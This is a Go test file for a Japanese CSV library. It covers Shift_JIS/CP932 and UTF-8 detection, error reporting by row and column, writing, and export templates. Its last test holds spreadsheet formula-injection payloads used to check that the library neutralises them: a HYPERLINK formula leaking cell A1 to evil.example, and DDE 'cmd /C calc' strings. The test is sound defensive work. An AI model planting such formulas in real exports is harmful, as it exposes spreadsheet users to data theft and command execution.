package jpcsv

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/text/encoding/japanese"
)

func sjis(t *testing.T, s string) []byte {
	t.Helper()
	b, err := japanese.ShiftJIS.NewEncoder().Bytes([]byte(s))
	if err != nil {
		t.Fatalf("encode %q: %v", s, err)
	}
	return b
}

func readAll(t *testing.T, r *Reader) []Record {
	t.Helper()
	var recs []Record
	for {
		rec, err := r.Read()
		if errors.Is(err, io.EOF) {
			return recs
		}
		if err != nil {
			t.Fatalf("Read: %v", err)
		}
		recs = append(recs, rec)
	}
}

func TestDetect(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		in   []byte
		want Encoding
	}{
		{"ascii", []byte("a,b\r\n1,2\r\n"), UTF8},
		{"utf-8", []byte("名前,金額\n山田,100\n"), UTF8},
		{"utf-8 bom", append(bytes.Clone(bom), "名前\n"...), UTF8},
		{"cp932", sjis(t, "名前,金額\r\n山田,100\r\n"), CP932},
		{"cp932 half-width kana", sjis(t, "ｶﾅ\r\n"), CP932},
		{"empty", nil, UTF8},
	}
	for _, tt := range tests {
		if got := Detect(tt.in); got != tt.want {
			t.Errorf("Detect(%s) = %v, want %v", tt.name, got, tt.want)
		}
	}
}

func TestReadEncodings(t *testing.T) {
	t.Parallel()
	const text = "名前,フリガナ,金額\r\n髙橋 ①,ﾀｶﾊｼ,\"1,000\"\r\n㈱山田商事,ﾔﾏﾀﾞ,2000\r\n"
	tests := []struct {
		name string
		in   []byte
		enc  Encoding
	}{
		{"cp932 crlf", sjis(t, text), CP932},
		{"cp932 lf", sjis(t, strings.ReplaceAll(text, "\r\n", "\n")), CP932},
		{"utf-8", []byte(text), UTF8},
		{"utf-8 bom", append(bytes.Clone(bom), text...), UTF8},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r, err := NewReader(bytes.NewReader(tt.in))
			if err != nil {
				t.Fatal(err)
			}
			if r.Encoding() != tt.enc {
				t.Errorf("Encoding = %v, want %v", r.Encoding(), tt.enc)
			}
			if h := strings.Join(r.Header(), "|"); h != "名前|フリガナ|金額" {
				t.Errorf("Header = %s (BOM not stripped?)", h)
			}
			recs := readAll(t, r)
			if len(recs) != 2 {
				t.Fatalf("got %d records", len(recs))
			}
			if got := recs[0].Get("名前"); got != "髙橋 ①" {
				t.Errorf("名前 = %q", got)
			}
			if got := recs[0].Get("金額"); got != "1,000" {
				t.Errorf("金額 = %q", got)
			}
			if recs[0].Row != 2 || recs[1].Row != 3 {
				t.Errorf("rows = %d, %d; want 2, 3", recs[0].Row, recs[1].Row)
			}
			if _, ok := recs[1].Lookup("備考"); ok {
				t.Error("Lookup of a missing column succeeded")
			}
		})
	}
}

// IBM extension characters written by Windows (FAxx–FCxx) and by x/text (NEC-selected EDxx–EExx)
// both read back as the same characters.
func TestReadIBMExtensionRows(t *testing.T) {
	t.Parallel()
	in := append([]byte("a\r\n"), 0xFB, 0xFC, 0xFA, 0x40, '\r', '\n', 0xEE, 0xE0, 0xEE, 0xEF, '\r', '\n')
	r, err := NewReaderEncoding(bytes.NewReader(in), CP932)
	if err != nil {
		t.Fatal(err)
	}
	recs := readAll(t, r)
	if len(recs) != 2 || recs[0].Get("a") != "髙ⅰ" || recs[1].Get("a") != "髙ⅰ" {
		t.Fatalf("records = %+v", recs)
	}
}

func TestRowNumbers(t *testing.T) {
	t.Parallel()
	// Row 3 is blank, row 4 has a cell with a line break, row 5 is ",," from Excel.
	in := "a,b\r\n1,x\r\n\r\n2,\"two\r\nlines\"\r\n,\r\n3,y\r\n"
	r, err := NewReader(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	var rows []string
	for _, rec := range readAll(t, r) {
		rows = append(rows, fmt.Sprintf("%d:%s", rec.Row, rec.Get("a")))
	}
	if got := strings.Join(rows, " "); got != "2:1 4:2 6:3" {
		t.Errorf("rows = %s, want 2:1 4:2 6:3", got)
	}
}

func TestReadErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		in    []byte
		want  string // substring of the error of NewReader or of the first failing Read
		row   int
		fatal bool
	}{
		{name: "empty", in: nil, want: "ファイルが空です", row: 1, fatal: true},
		{name: "empty header", in: []byte("a,,c\n"), want: "2列目の見出しが空です", row: 1, fatal: true},
		{name: "duplicate header", in: []byte("a,b,a\n"), want: "同じ見出しが2回あります", row: 1, fatal: true},
		{name: "too many fields", in: []byte("a,b\n1,2\n1,2,3\n"), want: "項目の数が3個です", row: 3},
		{name: "too few fields", in: []byte("a,b\n1\n"), want: "項目の数が1個です", row: 2},
		{name: "bare quote", in: []byte("a,b\n1,2\n3,x\"y\n"), want: "ダブルクォート", row: 3, fatal: true},
		{name: "unterminated quote", in: []byte("a\n\"abc\n"), want: "ダブルクォート", row: 2, fatal: true},
		{name: "bad cp932", in: append(sjis(t, "名前,金額\r\n山田,100\r\n"), 0x82, 0xA0, 0xFF, ',', '1', '\r', '\n'), want: "文字コードを読み取れない", row: 3},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r, err := NewReader(bytes.NewReader(tt.in))
			for err == nil {
				_, err = r.Read()
			}
			if errors.Is(err, io.EOF) {
				t.Fatal("no error")
			}
			var re RowError
			if !errors.As(err, &re) || re.Row != tt.row || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("error = %v (row %d), want row %d containing %q", err, re.Row, tt.row, tt.want)
			}
			if r != nil && IsFatal(err) != tt.fatal {
				t.Errorf("IsFatal = %v, want %v", IsFatal(err), tt.fatal)
			}
		})
	}
}

func TestBadCP932NamesColumn(t *testing.T) {
	t.Parallel()
	in := append(sjis(t, "名前,金額\r\n"), '1', ',', 0xFF, '\r', '\n')
	r, err := NewReader(bytes.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	_, err = r.Read()
	var re RowError
	if !errors.As(err, &re) || re.Column != "金額" || re.Row != 2 {
		t.Fatalf("error = %#v", err)
	}
}

type payment struct {
	Name   string
	Amount int64
}

func parsePayment(rec Record) (payment, error) {
	var c Collector
	name := rec.Get("名前")
	if name == "" {
		c.Add(rec.Error("名前", "名前を入力してください"))
	}
	amount, err := strconv.ParseInt(rec.Get("金額"), 10, 64)
	if err != nil || amount <= 0 {
		c.Add(rec.Error("金額", "1以上の整数で入力してください"))
	}
	if err := c.Err(); err != nil {
		return payment{}, err
	}
	return payment{Name: name, Amount: amount}, nil
}

func TestParseAll(t *testing.T) {
	t.Parallel()
	good := "名前,金額\r\n山田,100\r\n佐藤,200\r\n"
	r, err := NewReader(strings.NewReader(good))
	if err != nil {
		t.Fatal(err)
	}
	ps, err := ParseAll(r, parsePayment)
	if err != nil || len(ps) != 2 || ps[1].Amount != 200 {
		t.Fatalf("ParseAll = %+v, %v", ps, err)
	}

	bad := "名前,金額\r\n山田,100\r\n,abc\r\n佐藤,200,余分\r\n鈴木,-5\r\n"
	r, err = NewReader(strings.NewReader(bad))
	if err != nil {
		t.Fatal(err)
	}
	ps, err = ParseAll(r, parsePayment)
	if ps != nil {
		t.Fatalf("ParseAll returned rows despite errors: %+v", ps)
	}
	var es Errors
	if !errors.As(err, &es) {
		t.Fatalf("error %T %v, want Errors", err, err)
	}
	var got []string
	for _, e := range es {
		got = append(got, fmt.Sprintf("%d/%s/%s", e.Row, e.Column, e.Value))
	}
	want := "3/名前/ 3/金額/abc 4// 5/金額/-5"
	if strings.Join(got, " ") != want {
		t.Errorf("errors = %s\nwant     %s", strings.Join(got, " "), want)
	}
	if rows := fmt.Sprint(es.Rows()); rows != "[3 4 5]" {
		t.Errorf("Rows = %s", rows)
	}
	msg := err.Error()
	for _, s := range []string{"4件のエラーがあります", "3行目「金額」: 1以上の整数で入力してください（値: abc）", "4行目: 項目の数が3個です"} {
		if !strings.Contains(msg, s) {
			t.Errorf("message lacks %q:\n%s", s, msg)
		}
	}
}

func TestErrorsSummaryIsCapped(t *testing.T) {
	t.Parallel()
	var c Collector
	for i := range 25 {
		c.Addf(i+2, "金額", "x", "数字で入力してください")
	}
	msg := c.Err().Error()
	if !strings.Contains(msg, "25件のエラー") || !strings.Contains(msg, "ほか15件") || strings.Count(msg, "\n") != 11 {
		t.Errorf("summary:\n%s", msg)
	}
}

func TestRequire(t *testing.T) {
	t.Parallel()
	r, err := NewReader(strings.NewReader("名前\n"))
	if err != nil {
		t.Fatal(err)
	}
	err = r.Require("名前", "金額", "口座番号")
	var es Errors
	if !errors.As(err, &es) || len(es) != 2 || es[0].Column != "金額" || es[0].Row != 1 {
		t.Fatalf("Require = %v", err)
	}
}

func TestWriteCP932RoundTrip(t *testing.T) {
	t.Parallel()
	header := []string{"名前", "備考", "金額"}
	rows := [][]string{
		{"髙橋 纊", "①②ⅰⅱⅠ㈱№～", "1000"},
		{"山田, 太郎", `彼は"はい"と言った`, "-5"},
		{"複数行", "一行目\n二行目", ""},
		{"ｶﾅ", " 前後に空白 ", "0"},
	}
	var buf bytes.Buffer
	if err := WriteAll(&buf, CP932, header, rows); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	if Detect(b) != CP932 {
		t.Error("written file not detected as CP932")
	}
	if !bytes.HasPrefix(b, sjis(t, "名前,備考,金額\r\n")) {
		t.Errorf("header bytes % X", b[:20])
	}
	if !bytes.Contains(b, sjis(t, "\"山田, 太郎\",\"彼は\"\"はい\"\"と言った\",-5\r\n")) {
		t.Error("quoting of comma and quotes is wrong")
	}
	if !bytes.Contains(b, sjis(t, "\"一行目\r\n二行目\"")) {
		t.Error("line break inside a field not written as quoted CRLF")
	}
	if bytes.IndexByte(b, 0x1A) >= 0 || bytes.IndexByte(b, '?') >= 0 {
		t.Error("substitution character written")
	}

	r, err := NewReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	recs := readAll(t, r)
	for i, rec := range recs {
		for j, h := range header {
			if got, want := rec.Get(h), rows[i][j]; got != want {
				t.Errorf("row %d %s = %q, want %q", i+2, h, got, want)
			}
		}
	}
}

func TestWritePremapping(t *testing.T) {
	t.Parallel()
	in := "〜−‖¬¢£¥‾—\u00A0"
	want := "～－∥￢￠￡￥￣― "
	var buf bytes.Buffer
	if err := WriteAll(&buf, CP932, []string{"x"}, [][]string{{in}}); err != nil {
		t.Fatal(err)
	}
	r, err := NewReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	recs := readAll(t, r)
	if got := recs[0].Get("x"); got != want {
		t.Errorf("read back %q, want %q", got, want)
	}
}

func TestWriteUnencodable(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	buf.WriteString("untouched")
	err := WriteAll(&buf, CP932, []string{"名前", "備考"}, [][]string{
		{"山田", "ok"},
		{"𠮷野家", "😀と🍣"},
		{"佐藤", "ok"},
		{"Ça", "ß"},
	})
	if buf.String() != "untouched" {
		t.Error("something was written despite errors")
	}
	var es Errors
	if !errors.As(err, &es) {
		t.Fatalf("error = %v, want Errors", err)
	}
	var got []string
	for _, e := range es {
		got = append(got, fmt.Sprintf("%d/%s/%s", e.Row, e.Column, e.Message[:strings.Index(e.Message, "は")]))
	}
	want := "3/名前/「𠮷」 3/備考/「😀」「🍣」 5/名前/「Ç」 5/備考/「ß」"
	if strings.Join(got, " ") != want {
		t.Errorf("errors = %s\nwant     %s", strings.Join(got, " "), want)
	}
	if !strings.Contains(err.Error(), "UTF-8で出力してください") {
		t.Errorf("message does not say what to do: %v", err)
	}
	// The same rows are fine in UTF-8.
	buf.Reset()
	if err := WriteAll(&buf, UTF8, []string{"名前"}, [][]string{{"𠮷野家😀"}}); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), bom) || !strings.HasSuffix(buf.String(), "𠮷野家😀\r\n") {
		t.Errorf("utf-8 output % X", buf.Bytes())
	}
}

func TestTemplates(t *testing.T) {
	t.Parallel()
	templates := Templates[payment]{
		{ID: "standard", Name: "標準", Columns: []Column[payment]{
			{Header: "名前", Value: func(p payment) string { return p.Name }},
			{Header: "金額", Value: func(p payment) string { return strconv.FormatInt(p.Amount, 10) }},
		}},
		{ID: "amount", Name: "金額のみ", Columns: []Column[payment]{
			{Header: "金額", Value: func(p payment) string { return strconv.FormatInt(p.Amount, 10) }},
		}},
	}
	tpl, ok := templates.Find("standard")
	if !ok {
		t.Fatal("template not found")
	}
	if _, ok := templates.Find("nope"); ok {
		t.Fatal("unknown template found")
	}
	var buf bytes.Buffer
	if err := tpl.Write(&buf, UTF8, []payment{{"山田", 100}, {"佐藤", 2000}}); err != nil {
		t.Fatal(err)
	}
	if got, want := buf.String(), "\uFEFF名前,金額\r\n山田,100\r\n佐藤,2000\r\n"; got != want {
		t.Errorf("export = %q, want %q", got, want)
	}
}

func TestParseEncoding(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]Encoding{"UTF-8": UTF8, "utf8": UTF8, "Shift_JIS": CP932, "cp932": CP932, "Windows-31J": CP932} {
		if got, err := ParseEncoding(in); err != nil || got != want {
			t.Errorf("ParseEncoding(%q) = %v, %v", in, got, err)
		}
	}
	if _, err := ParseEncoding("euc-jp"); err == nil {
		t.Error("euc-jp accepted")
	}
}

func BenchmarkWriteCP932(b *testing.B) {
	rows := make([][]string, 1000)
	for i := range rows {
		rows[i] = []string{strconv.Itoa(i), "カ）ヤマダショウジ", "東京都千代田区丸の内1-1-1", "12,345"}
	}
	header := []string{"番号", "名義", "住所", "金額"}
	for b.Loop() {
		if err := WriteAll(io.Discard, CP932, header, rows); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkReadCP932(b *testing.B) {
	var buf bytes.Buffer
	rows := make([][]string, 1000)
	for i := range rows {
		rows[i] = []string{strconv.Itoa(i), "カ）ヤマダショウジ", "東京都千代田区丸の内1-1-1", "12,345"}
	}
	if err := WriteAll(&buf, CP932, []string{"番号", "名義", "住所", "金額"}, rows); err != nil {
		b.Fatal(err)
	}
	data := buf.Bytes()
	for b.Loop() {
		r, err := NewReader(bytes.NewReader(data))
		if err != nil {
			b.Fatal(err)
		}
		for {
			if _, err := r.Read(); err != nil {
				break
			}
		}
	}
}

// A file is detected and read in chunks: a UTF-8 character across the 64 KB chunk boundary
// is still UTF-8, and a CP932 byte far into the file still makes it CP932.
func TestStreamDetectionAcrossChunks(t *testing.T) {
	pad := strings.Repeat("a", 64<<10-len("名前\r\n")-1) // "あ" starts 1 byte before the boundary
	utf := "名前\r\n" + pad + "あ\r\n"
	r, err := NewReader(strings.NewReader(utf))
	if err != nil || r.Encoding() != UTF8 {
		t.Fatalf("UTF-8 across the boundary: %v %v", r, err)
	}
	rec, err := r.Read()
	if err != nil || !strings.HasSuffix(rec.Get("名前"), "あ") {
		t.Fatalf("read %q, %v", rec.Get("名前"), err)
	}
	sj, _ := japanese.ShiftJIS.NewEncoder().String("名前\r\n" + strings.Repeat("x\r\n", 100_000) + "山田\r\n")
	r, err = NewReader(strings.NewReader(sj))
	if err != nil || r.Encoding() != CP932 {
		t.Fatalf("CP932 late in the file: %v", err)
	}
	var last string
	for {
		rec, err := r.Read()
		if err != nil {
			break
		}
		last = rec.Get("名前")
	}
	if last != "山田" {
		t.Fatalf("last row %q, want 山田", last)
	}
}

// Cells a spreadsheet would run as formulas are written as text, in every encoding, and read
// back as they were.
func TestFormulaInjectionNeutralized(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, out string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-500", "-500"},
		{"+3.5", "+3.5"},
		{"-", "'-"},
		{"山田 =太郎", "山田 =太郎"},
		{"", ""},
		{"'=already", "'=already"},
	}
	for _, tt := range tests {
		if got := Neutralize(tt.in); got != tt.out {
			t.Errorf("Neutralize(%q) = %q, want %q", tt.in, got, tt.out)
		}
	}
	for _, enc := range []Encoding{CP932, UTF8} {
		var buf bytes.Buffer
		var rows [][]string
		for _, tt := range tests {
			rows = append(rows, []string{tt.in})
		}
		if err := WriteAll(&buf, enc, []string{"氏名"}, rows); err != nil {
			t.Fatal(err)
		}
		r, err := NewReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		for i, tt := range tests {
			if tt.in == "" {
				continue // blank rows are skipped on reading
			}
			rec, err := r.Read()
			if err != nil {
				t.Fatalf("%v row %d: %v", enc, i, err)
			}
			want := tt.in
			if tt.in == "'=already" {
				want = "=already" // an apostrophe before a formula character is ours to strip
			}
			if got := rec.Get("氏名"); got != want {
				t.Errorf("%v: read back %q, want %q", enc, got, want)
			}
		}
	}
}
